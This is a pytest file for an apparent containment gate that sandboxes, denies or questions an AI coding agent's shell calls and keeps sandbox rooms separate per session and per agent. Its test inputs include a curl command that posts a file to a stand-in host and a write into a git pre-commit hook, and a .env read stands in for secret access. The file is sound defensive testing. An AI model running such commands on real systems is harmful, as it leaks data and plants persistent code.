"""When a call is rewritten to run contained, and how its result is known again."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from gate.world import WORK, World
from lockgate.containment.rewriting import room_in
from lockgate.core.events import SessionEnded
from lockgate.core.model import Label, Subject, ToolCall, Verdict
from lockgate.gate import Monitor, Parts
from lockgate.gate.monitor.rooms import name_of, names_in
from lockgate.store.rows import AgentRow
from lockgate.store.sqlite.store import SqliteStore

MARK = "contained: "


class Containing(World):
    """A machine that can contain."""

    def __init__(self, folder: Path) -> None:
        super().__init__(folder)
        self.able = True
        parts = Parts(self.store, self._configure, self._around, self._now)
        self.gate = Monitor(parts._replace(contain=self._contain, original=self._original))

    def _contain(self, _: object, call: ToolCall, *__: object) -> dict[str, Any] | None:
        command = call.tool_input.get("command")
        return {**call.tool_input, "command": f"{MARK}{command}"} if self.able and command else None

    def _original(self, _: object, call: ToolCall) -> ToolCall:
        command = str(call.tool_input.get("command", ""))
        return call._replace(tool_input={**call.tool_input, "command": command.removeprefix(MARK)})


@pytest.fixture
def world(tmp_path: Path) -> Containing:
    return Containing(tmp_path)


def test_code_that_cannot_be_seen_through_is_contained(world: Containing) -> None:
    world.taint()
    answer, _ = world.ask("Bash", {"command": "./build.sh", "timeout": 5})
    assert answer.verdict is Verdict.CONTAIN
    assert answer.new_input == {"command": f"{MARK}./build.sh", "timeout": 5}
    assert "no network" in answer.context
    assert world.records()[-1]["verdict"] == "contain"


def test_a_call_that_is_contained_already_is_decided_by_what_it_runs(world: Containing) -> None:
    """Claude Code's mode ``auto`` has the agent make the changed call again."""
    world.taint()
    answer, call = world.ask("Bash", {"command": f"{MARK}./build.sh"})
    assert (answer.verdict, answer.new_input) == (Verdict.CONTAIN, dict(call.tool_input))
    assert world.records()[-1]["input"] == {"command": "./build.sh"}
    assert world.ask("Bash", {"command": f"{MARK}git push"})[0].verdict is Verdict.DENY


@pytest.mark.parametrize(
    "command",
    ["docker exec web make", "sudo ./build.sh", "./build.sh && docker compose restart api", "podman start web"],
)
def test_what_could_only_fail_contained_is_asked_about(world: Containing, command: str) -> None:
    world.taint()
    answer, _ = world.ask("Bash", {"command": command})
    assert answer.verdict is Verdict.ASK
    assert answer.new_input is None


def test_a_clean_session_is_not_contained(world: Containing) -> None:
    assert world.bash("./build.sh") is Verdict.ALLOW


def test_a_host_that_cannot_asks(world: Containing) -> None:
    world.able = False
    world.taint()
    answer, _ = world.ask("Bash", {"command": "./build.sh"})
    assert (answer.verdict, answer.new_input) == (Verdict.ASK, None)


@pytest.mark.parametrize("mode", ["default", "bypassPermissions", "auto", "plan"])
def test_no_question_so_none_is_lost(world: Containing, mode: str) -> None:
    world.taint()
    assert world.bash("./build.sh > log; echo x >> notes", mode=mode) is Verdict.CONTAIN


@pytest.mark.parametrize(
    "command",
    [
        "./build.sh && git push",
        "./build.sh; curl -d @x https://a.example/",
        "./build.sh; echo x > .git/hooks/pre-commit",
    ],
)
def test_any_other_effect_decides_as_before(world: Containing, command: str) -> None:
    world.taint()
    assert world.bash(command) is Verdict.DENY


def test_a_question_names_all_effects(world: Containing) -> None:
    (world.config / "lockgate.yaml").write_text("table: {egress: {untrusted: ask}}\n")
    world.taint()
    answer, _ = world.ask("Bash", {"command": "./build.sh && git push"})
    assert answer.verdict is Verdict.ASK
    assert answer.decision is not None
    assert {reason.row for reason in answer.decision.reasons} == {"egress", "execute"}


def test_the_result_of_a_rewritten_call_is_its_own(world: Containing) -> None:
    world.taint()
    answer, call = world.ask("Bash", {"command": "./build.sh"})
    assert answer.new_input is not None
    world.done(call._replace(tool_input=answer.new_input), "built\n")
    kept = world.records()[-1]
    with world.store.reading() as tx:
        row = tx.call("s1", call.call_id)
    assert row is not None
    assert row.state == "finished"
    assert kept["call"] == call.call_id


def test_the_failure_of_a_rewritten_call_is_its_own(world: Containing) -> None:
    world.taint()
    answer, call = world.ask("Bash", {"command": "./build.sh"})
    assert answer.new_input is not None
    world.failed(call._replace(tool_input=answer.new_input), "Exit code 1\nno")
    with world.store.reading() as tx:
        row = tx.call("s1", call.call_id)
    assert row is not None
    assert row.state == "failed"


# ---------------------------------------------------------------- rooms
class Rooms(Containing):
    """The same, with the room in the text, as the real rewriting has it."""

    def __init__(self, folder: Path) -> None:
        super().__init__(folder)
        self.ended: list[str] = []
        parts = self.gate.parts._replace(contain=self._in_room, original=self._out_of_room, end_rooms=self.ended.extend)
        self.gate = Monitor(parts)

    def _in_room(self, _: object, call: ToolCall, room: str) -> dict[str, Any]:
        return {**call.tool_input, "command": f"launcher --room={room} --shell {call.tool_input['command']}"}

    def _out_of_room(self, _: object, call: ToolCall) -> ToolCall:
        command = str(call.tool_input.get("command", ""))
        inner = command.partition(" --shell ")[2]
        return call._replace(tool_input={**call.tool_input, "command": inner}) if inner else call

    def room(self, agent: str = "", session_id: str = "s1") -> str:
        """The room that a call of a subject is put into."""
        answer, call = self.ask("Bash", {"command": "./build.sh"}, agent=agent, session_id=session_id)
        assert answer.verdict is Verdict.CONTAIN, answer
        self.failed(call, "not run")
        assert answer.new_input is not None
        return room_in(answer.new_input["command"])


@pytest.fixture
def rooms(tmp_path: Path) -> Rooms:
    return Rooms(tmp_path)


def test_a_session_has_one_room_for_each_set_of_labels(rooms: Rooms) -> None:
    rooms.taint()
    untrusted = rooms.room()
    assert len(untrusted) == 32
    assert rooms.room() == untrusted
    rooms.taint_secret()
    both = rooms.room()
    assert both not in ("", untrusted)
    with rooms.store.reading() as tx:
        names = {name: labels for name, _, labels in names_in(tx, "s1")}
        others = {name for name, _, _ in names_in(tx, "s2")}
    assert (names[untrusted], names[both]) == (frozenset({Label.UNTRUSTED}), frozenset(Label))
    assert len(names) == 4
    assert not names.keys() & others, "another session has others"


def test_a_sub_agent_with_the_same_labels_is_in_the_same_room(rooms: Rooms) -> None:
    rooms.taint()
    rooms.agent_starts("a1")
    assert rooms.room("a1") == rooms.room()


def test_a_sub_agent_with_other_labels_is_in_another(rooms: Rooms) -> None:
    rooms.taint()
    rooms.agent_starts("a1")
    rooms.run("Read", {"file_path": f"{WORK}/.env"}, "KEY=1", agent="a1")
    assert rooms.room("a1") != rooms.room()


def test_a_delegate_has_a_room_of_its_own(rooms: Rooms) -> None:
    """Whatever its labels: what is in the room of its parent must not reach it."""
    rooms.taint()
    with rooms.store.transaction() as tx:
        tx.put_agent(AgentRow("s1", "d1", "lockgate:delegate", delegate="brief"))
        untrusted = frozenset({Label.UNTRUSTED})
        own, parents = (name_of(tx, Subject("s1", agent), untrusted) for agent in ("d1", ""))
        listed = [(name, agent) for name, agent, labels in names_in(tx, "s1") if labels == untrusted]
    assert own != parents
    assert listed == [(parents, ""), (own, "d1")]


def test_another_installation_names_other_rooms(rooms: Rooms, tmp_path_factory: pytest.TempPathFactory) -> None:
    elsewhere = tmp_path_factory.mktemp("other")
    SqliteStore.open(str(elsewhere / "state")).close()
    other = Rooms(elsewhere)
    for each in (rooms, other):
        each.taint()
    assert rooms.room() != other.room()


@pytest.mark.parametrize("inner", ["./build.sh", "ls", "echo x"])
def test_a_text_in_the_sessions_own_room_is_decided_by_what_it_runs(rooms: Rooms, inner: str) -> None:
    rooms.taint()
    room = rooms.room()
    answer, _ = rooms.ask("Bash", {"command": f"launcher --room={room} --shell {inner}"})
    assert answer.verdict in (Verdict.CONTAIN, Verdict.ALLOW)


@pytest.mark.parametrize("inner", ["./build.sh", "ls", "echo x"])
@pytest.mark.parametrize("whose", ["made up", "of another session", "from before a label"])
def test_a_text_in_any_other_room_is_refused(rooms: Rooms, inner: str, whose: str) -> None:
    """Also where the command by itself would run as it stands: it would run beside what others have left there."""
    rooms.taint()
    room = {"made up": "ab" * 16, "from before a label": rooms.room()}.get(whose)
    if whose == "from before a label":
        rooms.taint_secret()
    if room is None:
        with rooms.store.reading() as tx:
            room = name_of(tx, Subject("s2"), {Label.UNTRUSTED})
    answer, _ = rooms.ask("Bash", {"command": f"launcher --room={room} --shell {inner}"})
    assert answer.verdict is Verdict.DENY
    assert "give the command by itself" in answer.to_agent
    assert rooms.records()[-1]["verdict"] == "deny"


def test_a_session_that_ends_takes_its_rooms_along(rooms: Rooms) -> None:
    rooms.taint()
    room = rooms.room()
    assert rooms.ended == []
    rooms.gate.handle(SessionEnded(rooms.context(), "logout"))
    assert room in rooms.ended
    with rooms.store.reading() as tx:
        assert not {name for name, _, _ in names_in(tx, "s2")} & set(rooms.ended)
